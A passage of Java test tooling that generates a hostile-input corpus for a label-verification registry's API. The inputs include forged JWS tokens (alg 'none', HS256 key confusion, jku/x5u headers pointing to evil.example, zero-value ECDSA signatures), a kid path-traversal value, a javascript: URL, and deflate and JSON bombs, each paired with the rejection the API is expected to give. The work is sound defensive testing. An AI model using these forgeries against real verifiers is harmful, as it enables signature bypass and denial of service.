package jp.jcstar.functions.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.InputStream;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.zip.Deflater;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import jp.jcstar.json.Json;
import jp.jcstar.label.Fixtures;
import jp.jcstar.label.LabelClaims;
import jp.jcstar.label.LabelCodec;
import jp.jcstar.label.StatusRef;
import jp.jcstar.qr.QrText;
import jp.jcstar.signing.B64;
import jp.jcstar.signing.KeySet;
import jp.jcstar.signing.LabelSigner;
import jp.jcstar.verify.TestKeys;

/**
 * Builds the hostile input corpus: API Gateway HTTP API (v2) events that attack every public endpoint
 * (and the operator endpoints, as an authenticated but careless operator), each with the exact answer
 * the API must give. Run {@link #main} to regenerate the golden files under
 * {@code functions/src/test/resources/hostile/}; {@code HostileCorpusTest} replays them.
 *
 * <p>Every case is one JSON line: {@code name}, {@code family}, {@code route} (the route key of
 * {@code Routes.ALL}), {@code event} (the whole event as Lambda receives it), optionally
 * {@code bodyRecipe} (a body too large to commit: prefix + unit × times + suffix, base64 when the
 * event says so), {@code http} (false when the event cannot be sent over real HTTP, e.g. a lone
 * surrogate in a query), and {@code expect}: {@code status}, and the problem {@code type} for 4xx or
 * the verdict ({@code verdict}, {@code reason}) for verifications.
 *
 * <p>The corpus registry trusts exactly {@link TestKeys#CORPUS_A} and reads time from {@link #CLOCK}.
 */
public final class HostileCorpus {
    public static final Instant NOW = Instant.parse("2026-06-01T00:00:00Z");
    public static final Clock CLOCK = Clock.fixed(NOW, ZoneOffset.UTC);
    public static final String SITE = "https://registry.example.jp";
    /** A well-formed label id that is never in the corpus registry. */
    public static final String ABSENT_ID = "JC26-0000ZZZZ";

    static final BigInteger N = new BigInteger("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551", 16);
    private static final JsonNodeFactory F = JsonNodeFactory.instance;

    /** A route that takes a JSON body: its key, the concrete path, whether it is an operator route. */
    record BodyRoute(String key, String rawPath, Map<String, String> params, boolean operator) {
        String method() {
            return key.substring(0, key.indexOf(' '));
        }
    }

    static final List<BodyRoute> BODY_ROUTES = List.of(
            new BodyRoute("POST /v1/verify", "/v1/verify", Map.of(), false),
            new BodyRoute("POST /v1/verify/batch", "/v1/verify/batch", Map.of(), false),
            new BodyRoute("POST /v1/labels", "/v1/labels", Map.of(), true),
            new BodyRoute(
                    "POST /v1/labels/{id}/revocation",
                    "/v1/labels/" + ABSENT_ID + "/revocation",
                    Map.of("id", ABSENT_ID),
                    true),
            new BodyRoute(
                    "POST /v1/labels/{id}/suspension",
                    "/v1/labels/" + ABSENT_ID + "/suspension",
                    Map.of("id", ABSENT_ID),
                    true),
            new BodyRoute(
                    "POST /v1/labels/{id}/reinstatement",
                    "/v1/labels/" + ABSENT_ID + "/reinstatement",
                    Map.of("id", ABSENT_ID),
                    true),
            new BodyRoute("POST /v1/revocations", "/v1/revocations", Map.of(), true));

    static final List<String> LABEL_GET_ROUTES = List.of(
            "GET /v1/labels/{id}",
            "GET /v1/labels/{id}/qr.png",
            "GET /v1/labels/{id}/qr.svg",
            "GET /v1/labels/{id}/artwork.svg",
            "GET /v1/labels/{id}/history");
    static final List<String> LABEL_CHANGE_ROUTES = List.of(
            "POST /v1/labels/{id}/revocation", "POST /v1/labels/{id}/suspension", "POST /v1/labels/{id}/reinstatement");
    static final List<String> PLAIN_GET_ROUTES = List.of(
            "GET /.well-known/jwks.json",
            "GET /v1/requirements",
            "GET /v1/export/labels.json",
            "GET /v1/export/labels.csv",
            "GET /v1/labels",
            "GET /v1/status-lists");

    private final Map<String, List<ObjectNode>> files = new LinkedHashMap<>();
    private int requestIds;

    private HostileCorpus() {}

    /** The corpus: golden file name → cases. */
    public static Map<String, List<ObjectNode>> build() {
        HostileCorpus c = new HostileCorpus();
        c.forgedLabels();
        c.verifyBodies();
        c.jsonBombs();
        c.contentTypes();
        c.applicationFields();
        c.searchParams();
        c.pathTricks();
        c.oversizedRequests();
        c.changeFeedAndBidCheck(); // last: the request ids of the cases above stay as they were
        return c.files;
    }

    /** Regenerates the golden files: {@code HostileCorpus [output folder]}. */
    public static void main(String[] args) throws IOException {
        Path dir = Path.of(args.length > 0 ? args[0] : "functions/src/test/resources/hostile");
        Files.createDirectories(dir);
        int total = 0;
        for (var e : build().entrySet()) {
            StringBuilder sb = new StringBuilder();
            for (ObjectNode c : e.getValue()) sb.append(Json.writeString(c)).append('\n');
            Files.writeString(dir.resolve(e.getKey() + ".jsonl"), sb.toString());
            total += e.getValue().size();
            System.out.println(e.getKey() + ": " + e.getValue().size() + " cases");
        }
        System.out.println("total: " + total + " cases in " + dir.toAbsolutePath());
    }

    // ------------------------------------------------------------------ loading (for the tests)

    /** The golden file names, in a fixed order. */
    public static final List<String> FILES = List.of(
            "forged-labels",
            "verify-bodies",
            "json-bombs",
            "content-types",
            "application-fields",
            "search-params",
            "path-tricks",
            "oversized");

    /** Every committed case, as stored (body recipes not yet expanded). */
    public static List<ObjectNode> load() {
        List<ObjectNode> out = new ArrayList<>();
        for (String f : FILES) {
            try (InputStream in = HostileCorpus.class.getResourceAsStream("/hostile/" + f + ".jsonl")) {
                if (in == null)
                    throw new IllegalStateException(
                            "missing golden file hostile/" + f + ".jsonl: run HostileCorpus.main");
                for (String line : new String(in.readAllBytes(), StandardCharsets.UTF_8).split("\n")) {
                    if (!line.isBlank()) out.add((ObjectNode) Json.MAPPER.readTree(line));
                }
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        }
        return out;
    }

    /** The event JSON of a case with its body recipe expanded: what Lambda would hand the handler. */
    public static String eventJson(ObjectNode c) {
        ObjectNode event = c.get("event").deepCopy();
        JsonNode recipe = c.get("bodyRecipe");
        if (recipe != null) {
            byte[] body = recipeBytes(recipe);
            event.put(
                    "body",
                    event.path("isBase64Encoded").asBoolean()
                            ? Base64.getEncoder().encodeToString(body)
                            : new String(body, StandardCharsets.UTF_8));
        }
        return Json.writeString(event);
    }

    /** The raw body bytes a client would send for this case (over HTTP). */
    public static byte[] bodyBytes(ObjectNode c) {
        JsonNode recipe = c.get("bodyRecipe");
        if (recipe != null) return recipeBytes(recipe);
        JsonNode body = c.get("event").get("body");
        if (body == null || body.isNull()) return new byte[0];
        return c.get("event").path("isBase64Encoded").asBoolean()
                ? Base64.getDecoder().decode(body.asText())
                : body.asText().getBytes(StandardCharsets.UTF_8);
    }

    static byte[] recipeBytes(JsonNode r) {
        byte[] prefix = r.path("prefix").asText().getBytes(StandardCharsets.UTF_8);
        byte[] unit = r.path("unit").asText().getBytes(StandardCharsets.UTF_8);
        byte[] suffix = r.path("suffix").asText().getBytes(StandardCharsets.UTF_8);
        int times = r.path("times").asInt();
        byte[] out = new byte[prefix.length + unit.length * times + suffix.length];
        System.arraycopy(prefix, 0, out, 0, prefix.length);
        for (int i = 0; i < times; i++) System.arraycopy(unit, 0, out, prefix.length + i * unit.length, unit.length);
        System.arraycopy(suffix, 0, out, out.length - suffix.length, suffix.length);
        return out;
    }

    // ------------------------------------------------------------------ forged labels

    static LabelClaims claims(String id) {
        Instant iat = NOW.minus(Duration.ofDays(1));
        return new LabelClaims(
                id,
                1,
                List.of("SC-300", "SC-300W"),
                "スマートホームカメラ SC-300",
                "株式会社サクラ電機",
                "camera",
                LocalDate.of(2031, 3, 31),
                iat,
                iat.plus(Duration.ofDays(730)),
                new StatusRef(1, 42));
    }

    static String b64json(String json) {
        return B64.encode(json.getBytes(StandardCharsets.UTF_8));
    }

    static String header(String json) {
        return b64json(json);
    }

    static String signWith(TestKeys.SeededSigner key, String h64, String p64) {
        return h64 + "." + p64 + "." + B64.encode(key.sign((h64 + "." + p64).getBytes(StandardCharsets.US_ASCII)));
    }

    static String sigOf(BigInteger r, BigInteger s) {
        byte[] out = new byte[64];
        byte[] rb = fixed32(r);
        byte[] sb = fixed32(s);
        System.arraycopy(rb, 0, out, 0, 32);
        System.arraycopy(sb, 0, out, 32, 32);
        return B64.encode(out);
    }

    private static byte[] fixed32(BigInteger x) {
        byte[] b = x.toByteArray();
        byte[] out = new byte[32];
        int n = Math.min(32, b.length);
        System.arraycopy(b, b.length - n, out, 32 - n, n);
        return out;
    }

    static byte[] deflate(byte[] in) {
        Deflater d = new Deflater(Deflater.BEST_COMPRESSION, true);
        d.setInput(in);
        d.finish();
        byte[] buf = new byte[in.length + 64];
        int n = d.deflate(buf);
        d.end();
        return Arrays.copyOf(buf, n);
    }

    static String hs256(String h64, String p64, byte[] secret) {
        try {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(secret, "HmacSHA256"));
            return h64 + "." + p64 + "."
                    + B64.encode(mac.doFinal((h64 + "." + p64).getBytes(StandardCharsets.US_ASCII)));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static String flipBit(String b64, int byteIndex, int bit) {
        byte[] b = B64.decode(b64);
        b[byteIndex] ^= (byte) (1 << bit);
        return B64.encode(b);
    }

    private void forgedLabels() {
        TestKeys.SeededSigner a = TestKeys.CORPUS_A;
        TestKeys.SeededSigner b = TestKeys.CORPUS_B;
        String kidA = a.keyId();
        LabelClaims c = claims("JC26-FAKE0001");
        String genuine = new LabelSigner(a, true).sign(c);
        String genuinePlain = new LabelSigner(a, false).sign(c);
        String[] p = genuine.split("\\.");
        String hA = p[0];
        String pA = p[1];
        String sA = p[2];
        String plainPayload = genuinePlain.split("\\.")[1];
        String hPlainA = header("{\"alg\":\"ES256\",\"kid\":\"" + kidA + "\"}");
        byte[] claimsJson = LabelCodec.encode(c);

        // controls: a genuine signature of a label this registry never issued is "unknown", never valid
        forged("genuine-signature-not-in-registry", genuine, "unknown", null);
        forged("genuine-signature-uncompressed-not-in-registry", genuinePlain, "unknown", null);
        forged("genuine-signature-as-qr-numeric-url", QrText.of(SITE, genuine), "unknown", null);
        forged("genuine-signature-as-plain-url", QrText.plain(SITE, genuine), "unknown", null);
        forged("genuine-signature-foreign-host-url", "https://evil.example/v#" + genuine, "unknown", null);

        // algorithm confusion
        String noneH = header("{\"alg\":\"none\",\"kid\":\"" + kidA + "\"}");
        forged("alg-none-empty-signature", noneH + "." + pA + ".", "invalid", "not-compact-jws");
        forged("alg-none-with-signature", noneH + "." + pA + "." + sA, "invalid", "alg-not-allowed");
        forged(
                "alg-None-capitalised",
                header("{\"alg\":\"None\",\"kid\":\"" + kidA + "\"}") + "." + pA + "." + sA,
                "invalid",
                "alg-not-allowed");
        String hsH = header("{\"alg\":\"HS256\",\"kid\":\"" + kidA + "\"}");
        forged(
                "hs256-public-key-x509-as-secret",
                hs256(hsH, plainPayload, a.publicKey().getEncoded()),
                "invalid",
                "alg-not-allowed");
        forged(
                "hs256-jwks-json-as-secret",
                hs256(hsH, plainPayload, KeySet.of(a.publicKey()).toJson().getBytes(StandardCharsets.UTF_8)),
                "invalid",
                "alg-not-allowed");
        String pem = "-----BEGIN PUBLIC" + " KEY-----\n"
                + Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
                        .encodeToString(a.publicKey().getEncoded())
                + "\n-----END PUBLIC" + " KEY-----\n";
        forged(
                "hs256-public-key-pem-as-secret",
                hs256(hsH, plainPayload, pem.getBytes(StandardCharsets.US_ASCII)),
                "invalid",
                "alg-not-allowed");
        forged(
                "hs256-kid-less",
                hs256(header("{\"alg\":\"HS256\"}"), plainPayload, a.publicKey().getEncoded()),
                "invalid",
                "alg-not-allowed");
        for (String alg : List.of(
                "\"ES384\"",
                "\"ES512\"",
                "\"RS256\"",
                "\"PS256\"",
                "\"ES256K\"",
                "\"EdDSA\"",
                "\"es256\"",
                "\" ES256\"",
                "\"ES256\\u0000\"",
                "[\"ES256\"]",
                "null",
                "256",
                "{\"v\":\"ES256\"}")) {
            String h = header("{\"alg\":" + alg + ",\"kid\":\"" + kidA + "\"}");
            forged("alg-" + slug(alg), signWith(a, h, plainPayload), "invalid", "alg-not-allowed");
        }
        forged(
                "alg-missing",
                signWith(a, header("{\"kid\":\"" + kidA + "\"}"), plainPayload),
                "invalid",
                "alg-not-allowed");
        forged(
                "alg-duplicated-none-then-es256",
                signWith(a, header("{\"alg\":\"none\",\"alg\":\"ES256\",\"kid\":\"" + kidA + "\"}"), plainPayload),
                "invalid",
                "bad-header");

        // trust-redirecting and unexpected header parameters
        String jwkB = "{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\""
                + B64.encode(fixed32(b.publicKey().getW().getAffineX())) + "\",\"y\":\""
                + B64.encode(fixed32(b.publicKey().getW().getAffineY())) + "\"}";
        forged(
                "jwk-header-attacker-key",
                signWith(
                        b,
                        header("{\"alg\":\"ES256\",\"kid\":\"" + b.keyId() + "\",\"jwk\":" + jwkB + "}"),
                        plainPayload),
                "invalid",
                "forbidden-header-param");
        forged(
                "jwk-header-attacker-key-with-operator-kid",
                signWith(b, header("{\"alg\":\"ES256\",\"kid\":\"" + kidA + "\",\"jwk\":" + jwkB + "}"), plainPayload),
                "invalid",
                "forbidden-header-param");
        forged(
                "jku-header",
                signWith(
                        b,
                        header("{\"alg\":\"ES256\",\"kid\":\"" + kidA
                                + "\",\"jku\":\"https://evil.example/jwks.json\"}"),
                        plainPayload),
                "invalid",
                "forbidden-header-param");
        forged(
                "x5u-header",
                signWith(
                        b,
                        header("{\"alg\":\"ES256\",\"kid\":\"" + kidA + "\",\"x5u\":\"https://evil.example/c.pem\"}"),
                        plainPayload),
                "invalid",
                "forbidden-header-param");
        forged(
                "x5c-header",
                signWith(b, header("{\"alg\":\"ES256\",\"kid\":\"" + kidA + "\",\"x5c\":[\"MIIB\"]}"), plainPayload),
                "invalid",
                "forbidden-header-param");
        forged(
                "x5t-header",
                signWith(b, header("{\"alg\":\"ES256\",\"kid\":\"" + kidA + "\",\"x5t\":\"AAAA\"}"), plainPayload),
                "invalid",
                "forbidden-header-param");
        forged(
                "x5t-s256-header",
                signWith(b, header("{\"alg\":\"ES256\",\"kid\":\"" + kidA + "\",\"x5t#S256\":\"AAAA\"}"), plainPayload),
                "invalid",
                "forbidden-header-param");
        forged(
                "crit-header",
                signWith(
                        a,
                        header("{\"alg\":\"ES256\",\"kid\":\"" + kidA + "\",\"crit\":[\"exp\"],\"exp\":1}"),
                        plainPayload),
                "invalid",
                "forbidden-header-param");
        forged(
                "b64-false-header",
                signWith(a, header("{\"alg\":\"ES256\",\"kid\":\"" + kidA + "\",\"b64\":false}"), plainPayload),
                "invalid",
                "forbidden-header-param");
        forged(
                "typ-header",
                signWith(a, header("{\"alg\":\"ES256\",\"kid\":\"" + kidA + "\",\"typ\":\"JWT\"}"), plainPayload),
                "invalid",
                "unexpected-header-param");
        forged(
                "cty-header",
                signWith(a, header("{\"alg\":\"ES256\",\"kid\":\"" + kidA + "\",\"cty\":\"json\"}"), plainPayload),
                "invalid",
                "unexpected-header-param");
        forged(
                "zip-gzip-header",
                signWith(a, header("{\"alg\":\"ES256\",\"kid\":\"" + kidA + "\",\"zip\":\"GZIP\"}"), plainPayload),
                "invalid",
                "unexpected-header-param");
        forged(
                "zip-true-header",
                signWith(a, header("{\"alg\":\"ES256\",\"kid\":\"" + kidA + "\",\"zip\":true}"), plainPayload),
                "invalid",
                "unexpected-header-param");

        // keys
        forged("kid-missing", signWith(a, header("{\"alg\":\"ES256\"}"), plainPayload), "invalid", "missing-kid");
        forged(
                "kid-number",
                signWith(a, header("{\"alg\":\"ES256\",\"kid\":1}"), plainPayload),
                "invalid",
                "missing-kid");
        forged(
                "kid-null",
                signWith(a, header("{\"alg\":\"ES256\",\"kid\":null}"), plainPayload),
                "invalid",
                "missing-kid");
        forged(
                "kid-unknown",
                signWith(a, header("{\"alg\":\"ES256\",\"kid\":\"AAAAAAAAAAAAAAAA\"}"), plainPayload),
                "invalid",
                "unknown-kid");
        forged(
                "kid-of-attacker-key",
                signWith(b, header("{\"alg\":\"ES256\",\"kid\":\"" + b.keyId() + "\"}"), plainPayload),
                "invalid",
                "unknown-kid");
        forged(
                "kid-path-traversal",
                signWith(b, header("{\"alg\":\"ES256\",\"kid\":\"../../.well-known/jwks.json\"}"), plainPayload),
                "invalid",
                "unknown-kid");
        forged(
                "kid-with-nul",
                signWith(b, header("{\"alg\":\"ES256\",\"kid\":\"" + kidA + "\\u0000\"}"), plainPayload),
                "invalid",
                "unknown-kid");
        forged("kid-of-key-a-signed-by-key-b", signWith(b, hPlainA, plainPayload), "invalid", "bad-signature");
        forged("kid-of-key-a-signed-by-key-b-deflated", signWith(b, hA, pA), "invalid", "bad-signature");

        // signature values (CVE-2022-21449 and friends)
        forged(
                "signature-r0-s0",
                hA + "." + pA + "." + sigOf(BigInteger.ZERO, BigInteger.ZERO),
                "invalid",
                "signature-out-of-range");
        forged(
                "signature-r0",
                hA + "." + pA + "." + sigOf(BigInteger.ZERO, BigInteger.ONE),
                "invalid",
                "signature-out-of-range");
        forged(
                "signature-s0",
                hA + "." + pA + "." + sigOf(BigInteger.ONE, BigInteger.ZERO),
                "invalid",
                "signature-out-of-range");
        forged("signature-r-n-s-n", hA + "." + pA + "." + sigOf(N, N), "invalid", "signature-out-of-range");
        forged(
                "signature-all-ff",
                hA + "." + pA + "."
                        + sigOf(
                                BigInteger.TWO.pow(256).subtract(BigInteger.ONE),
                                BigInteger.TWO.pow(256).subtract(BigInteger.ONE)),
                "invalid",
                "signature-out-of-range");
        forged(
                "signature-r1-s1",
                hA + "." + pA + "." + sigOf(BigInteger.ONE, BigInteger.ONE),
                "invalid",
                "bad-signature");
        forged("signature-s-negated-malleability", hA + "." + pA + "." + malleate(sA), "invalid", "bad-signature");
        byte[] twinOf = B64.decode(sA);
        forged(
                "signature-high-s-twin",
                hA + "." + pA + "."
                        + sigOf(
                                new BigInteger(1, Arrays.copyOfRange(twinOf, 0, 32)),
                                N.subtract(new BigInteger(1, Arrays.copyOfRange(twinOf, 32, 64)))),
                "invalid",
                "high-s"); // (r, n - s) verifies; labels are low-s
        forged(
                "signature-63-bytes",
                hA + "." + pA + "." + B64.encode(Arrays.copyOf(B64.decode(sA), 63)),
                "invalid",
                "bad-signature-encoding");
        forged(
                "signature-65-bytes",
                hA + "." + pA + "." + B64.encode(Arrays.copyOf(B64.decode(sA), 65)),
                "invalid",
                "bad-signature-encoding");
        forged(
                "signature-der-encoded",
                hA + "." + pA + "." + B64.encode(der(B64.decode(sA))),
                "invalid",
                "bad-signature-encoding");
        forged("signature-empty", hA + "." + pA + ".", "invalid", "not-compact-jws");

        // truncation
        forged("truncated-header-only", hA, "invalid", "not-compact-jws");
        forged("truncated-header-dot", hA + ".", "invalid", "not-compact-jws");
        forged("truncated-no-signature", hA + "." + pA, "invalid", "not-compact-jws");
        forged("truncated-signature-one-char", genuine.substring(0, genuine.length() - 1), "invalid", "bad-base64url");
        forged(
                "truncated-signature-two-chars",
                genuine.substring(0, genuine.length() - 2),
                "invalid",
                "bad-signature-encoding");
        forged(
                "truncated-payload-half",
                hA + "." + pA.substring(0, pA.length() / 8 * 4) + "." + sA,
                "invalid",
                "bad-signature");
        forged(
                "truncated-qr-url",
                QrText.of(SITE, genuine).substring(0, QrText.of(SITE, genuine).length() - 10),
                "invalid",
                "bad-qr-text");

        // bit flips
        forged("bitflip-signature-last-bit", hA + "." + pA + "." + flipBit(sA, 63, 0), "invalid", "bad-signature");
        forged(
                "bitflip-signature-first-bit-of-s",
                hA + "." + pA + "." + flipBit(sA, 32, 0),
                "invalid",
                "bad-signature");
        forged("bitflip-payload-first-byte", hA + "." + flipBit(pA, 0, 0) + "." + sA, "invalid", "bad-signature");
        forged(
                "bitflip-payload-last-byte",
                hA + "." + flipBit(pA, B64.decode(pA).length - 1, 3) + "." + sA,
                "invalid",
                "bad-signature");
        forged("bitflip-header-brace", flipBit(hA, 0, 0) + "." + pA + "." + sA, "invalid", "bad-header");
        // byte 25 lies inside the kid string; flipping its low bit keeps it printable ASCII
        forged("bitflip-header-kid", flipBit(hA, 25, 0) + "." + pA + "." + sA, "invalid", "unknown-kid");

        // encodings
        forged("base64-padding", genuine + "=", "invalid", "bad-base64url");
        forged(
                "base64-standard-alphabet",
                hA + "." + pA + "." + sA.replace('-', '+').replace('_', '/')
                        + (sA.contains("-") || sA.contains("_") ? "" : "+A"),
                "invalid",
                "bad-base64url");
        forged("base64-non-canonical-last-char", hA + "." + pA + "." + nonCanonical(sA), "invalid", "bad-base64url");
        forged(
                "base64-inner-space",
                hA + "." + pA.substring(0, 8) + " " + pA.substring(8) + "." + sA,
                "invalid",
                "bad-base64url");
        forged("five-parts-jwe-shape", hA + "." + pA + "." + sA + ".AAAA.AAAA", "invalid", "not-compact-jws");
        forged("leading-dot", "." + pA + "." + sA, "invalid", "not-compact-jws");
        forged("only-dots", "..", "invalid", "not-compact-jws");
        forged("header-not-json", b64json("hello") + "." + plainPayload + "." + sA, "invalid", "bad-header");
        forged("header-json-array", b64json("[\"ES256\"]") + "." + plainPayload + "." + sA, "invalid", "bad-header");
        forged(
                "header-nested-bomb",
                b64json("[".repeat(200) + "]".repeat(200)) + "." + plainPayload + "." + sA,
                "invalid",
                "bad-header");

        // signed with the operator key but a payload the format refuses (each payload rejection class)
        String h = hPlainA;
        forged("payload-not-json", signWith(a, h, b64json("not json")), "invalid", "payload-not-json");
        forged("payload-duplicate-claim", signWith(a, h, b64json("{\"v\":1,\"v\":1}")), "invalid", "duplicate-key");
        ObjectNode node = LabelCodec.toNode(c);
        forged(
                "payload-version-2",
                signWith(a, h, b64json(node.deepCopy().put("v", 2).toString())),
                "invalid",
                "unsupported-version");
        ObjectNode noS = node.deepCopy();
        noS.remove("s");
        forged("payload-missing-status", signWith(a, h, b64json(noS.toString())), "invalid", "missing-claim");
        forged(
                "payload-level-as-string",
                signWith(a, h, b64json(node.deepCopy().put("lv", "1").toString())),
                "invalid",
                "bad-claim-type");
        forged(
                "payload-unknown-claim",
                signWith(a, h, b64json(node.deepCopy().put("admin", true).toString())),
                "invalid",
                "unknown-claim");
        forged(
                "payload-level-9",
                signWith(a, h, b64json(node.deepCopy().put("lv", 9).toString())),
                "invalid",
                "bad-claim-value");
        forged(
                "payload-validity-ten-years",
                signWith(
                        a,
                        h,
                        b64json(node.deepCopy()
                                .put("exp", NOW.plus(Duration.ofDays(3650)).getEpochSecond())
                                .toString())),
                "invalid",
                "bad-claim-value");
        forged(
                "payload-model-rtl-override",
                signWith(
                        a,
                        h,
                        b64json(node.deepCopy()
                                .set("m", F.arrayNode().add("SC-\u202E003"))
                                .toString())),
                "invalid",
                "bad-claim-value");
        forged(
                "payload-deflate-bomb",
                signWith(
                        a,
                        hA,
                        B64.encode(deflate(("{\"v\":1,\"p\":\"" + "A".repeat(1_000_000) + "\"}")
                                .getBytes(StandardCharsets.UTF_8)))),
                "invalid",
                "bad-compression");
        forged("payload-zip-but-not-deflate", signWith(a, hA, B64.encode(claimsJson)), "invalid", "bad-compression");
        forged(
                "payload-deflate-trailing-bytes",
                signWith(a, hA, B64.encode(concat(deflate(claimsJson), new byte[] {1, 2, 3}))),
                "invalid",
                "bad-compression");

        // the input itself
        forged("input-empty", "", "invalid", "empty");
        forged("input-blank", " \t\n ", "invalid", "empty");
        forged("input-too-large", genuine + "A".repeat(8192), "invalid", "too-large");
        forged("qr-url-not-verify-page", "https://evil.example/phish#" + genuine, "invalid", "bad-qr-text");
        forged("qr-url-javascript", "javascript:alert(1)//#" + genuine, "invalid", "bad-qr-text");
        forged("qr-url-no-fragment", "https://registry.example.jp/v", "invalid", "bad-qr-text");
        forged("qr-url-numeric-version-9", SITE + "/v#9" + "0".repeat(40), "invalid", "bad-qr-text");
        forged("qr-url-numeric-lengths-lie", SITE + "/v#1" + "0".repeat(60), "invalid", "bad-qr-text");
        forged("unicode-rtl-override-inside", hA + ".\u202E" + pA + "." + sA, "invalid", "bad-base64url");
        forged("unicode-zero-width-joiner-inside", hA + "." + pA + "\u200D." + sA, "invalid", "bad-base64url");
        forged("unicode-nul-appended", genuine + "\u0000", "invalid", "bad-base64url");
        forged(
                "unicode-lone-surrogate",
                genuine.substring(0, 30) + "\uD800" + genuine.substring(30),
                "invalid",
                "bad-base64url");
        forged("unicode-fullwidth-dots", hA + "\uFF0E" + pA + "\uFF0E" + sA, "invalid", "not-compact-jws");
    }

    private static String malleate(String s64) {
        byte[] sig = B64.decode(s64);
        BigInteger s = new BigInteger(1, Arrays.copyOfRange(sig, 32, 64));
        return sigOf(
                new BigInteger(1, Arrays.copyOfRange(sig, 0, 32)),
                N.subtract(s).add(N).mod(N).equals(s) ? s.add(BigInteger.ONE) : N.add(s));
    }

    private static String nonCanonical(String s64) {
        // 64 bytes encode to 86 chars; the last char carries 4 unused bits: set one
        char last = s64.charAt(s64.length() - 1);
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        int v = alphabet.indexOf(last);
        return s64.substring(0, s64.length() - 1) + alphabet.charAt(v | 1);
    }

    private static byte[] der(byte[] p1363) {
        byte[] r = new BigInteger(1, Arrays.copyOfRange(p1363, 0, 32)).toByteArray();
        byte[] s = new BigInteger(1, Arrays.copyOfRange(p1363, 32, 64)).toByteArray();
        byte[] out = new byte[6 + r.length + s.length];
        out[0] = 0x30;
        out[1] = (byte) (4 + r.length + s.length);
        out[2] = 0x02;
        out[3] = (byte) r.length;
        System.arraycopy(r, 0, out, 4, r.length);
        out[4 + r.length] = 0x02;
        out[5 + r.length] = (byte) s.length;
        System.arraycopy(s, 0, out, 6 + r.length, s.length);
        return out;
    }

    private static byte[] concat(byte[] x, byte[] y) {
        byte[] out = Arrays.copyOf(x, x.length + y.length);
        System.arraycopy(y, 0, out, x.length, y.length);
        return out;
    }

    private static String slug(String s) {
        String t = s.replaceAll("[^A-Za-z0-9]+", "-").replaceAll("^-|-$", "");
        return t.isEmpty() ? "x" : t;
    }

    /** One forged label through both verification endpoints. */
    private void forged(String name, String label, String verdict, String reason) {
        ObjectNode expect = F.objectNode().put("status", 200).put("verdict", verdict);
        expect.put("reason", reason);
        String single = F.objectNode().put("label", label).toString();
        ObjectNode batch = F.objectNode();
        batch.putArray("labels").add(label);
        boolean http = label.codePoints().noneMatch(cp -> cp >= 0xD800 && cp <= 0xDFFF) && !label.contains("\uD800");
        add("forged-labels", name, "verify", BODY_ROUTES.get(0), json(single), expect, http);
        add("forged-labels", name, "verify-batch", BODY_ROUTES.get(1), json(batch.toString()), expect, http);
    }

    // ------------------------------------------------------------------ verify bodies

    private void verifyBodies() {
        BodyRoute v = BODY_ROUTES.get(0);
        BodyRoute b = BODY_ROUTES.get(1);
        ObjectNode bad = problem(400, "bad-request");
        for (String body : List.of(
                "{\"label\":null}",
                "{\"label\":123}",
                "{\"label\":[\"x\"]}",
                "{\"label\":{\"a\":1}}",
                "{}",
                "{\"labels\":[\"x\"]}")) {
            add("verify-bodies", "verify-" + slug(body), null, v, json(body), bad, true);
        }
        for (String body : List.of(
                "{\"labels\":\"x\"}", "{\"labels\":null}", "{\"labels\":{\"0\":\"x\"}}", "{}", "{\"label\":\"x\"}")) {
            add("verify-bodies", "batch-" + slug(body), null, b, json(body), bad, true);
        }
        add(
                "verify-bodies",
                "batch-1001-labels",
                null,
                b,
                recipe("{\"labels\":[", "\"x\",", 1000, "\"x\"]}"),
                problem(400, "batch-too-large"),
                true);
        add(
                "verify-bodies",
                "batch-1000-empty-labels",
                null,
                b,
                recipe("{\"labels\":[", "\"\",", 999, "\"\"]}"),
                F.objectNode().put("status", 200).put("verdict", "invalid").put("reason", "empty"),
                true);
        add(
                "verify-bodies",
                "batch-non-string-entries",
                null,
                b,
                json("{\"labels\":[1,null,{},[]]}"),
                F.objectNode().put("status", 200).put("verdict", "invalid").put("reason", "empty"),
                true);
    }

    // ------------------------------------------------------------------ JSON bombs and malformed bodies

    private void jsonBombs() {
        ObjectNode badJson = problem(400, "bad-json");
        for (BodyRoute r : BODY_ROUTES) {
            String f = "json-bombs";
            add(f, "nesting-10000-arrays", null, r, recipe("", "[", 10_000, "]".repeat(10_000)), badJson, true);
            add(
                    f,
                    "nesting-10000-objects",
                    null,
                    r,
                    recipe("", "{\"a\":", 10_000, "1" + "}".repeat(10_000)),
                    badJson,
                    true);
            add(
                    f,
                    "nesting-33-just-over-limit",
                    null,
                    r,
                    json("{\"x\":" + "[".repeat(32) + "]".repeat(32) + "}"),
                    badJson,
                    true);
            add(f, "number-million-digits", null, r, recipe("{\"x\":1", "0", 1_000_000, "}"), badJson, true);
            add(f, "string-over-2-million-chars", null, r, recipe("{\"x\":\"", "a", 2_100_000, "\"}"), badJson, true);
            add(f, "duplicate-key", null, r, json("{\"a\":1,\"a\":2}"), badJson, true);
            add(f, "trailing-garbage", null, r, json("{} {}"), badJson, true);
            add(f, "empty-body", null, r, json(null), badJson, true);
            for (String s : List.of(
                    "null",
                    "[]",
                    "\"label\"",
                    "1",
                    "true",
                    "{",
                    "{'a':1}",
                    "{\"a\":NaN}",
                    "{a:1}",
                    "{\"a\":1/*c*/}",
                    "\uFEFF\uFEFF{}")) {
                add(f, "not-an-object-" + slug(s), null, r, json(s), badJson, true);
            }
            add(
                    f,
                    "overlong-utf8-slash",
                    null,
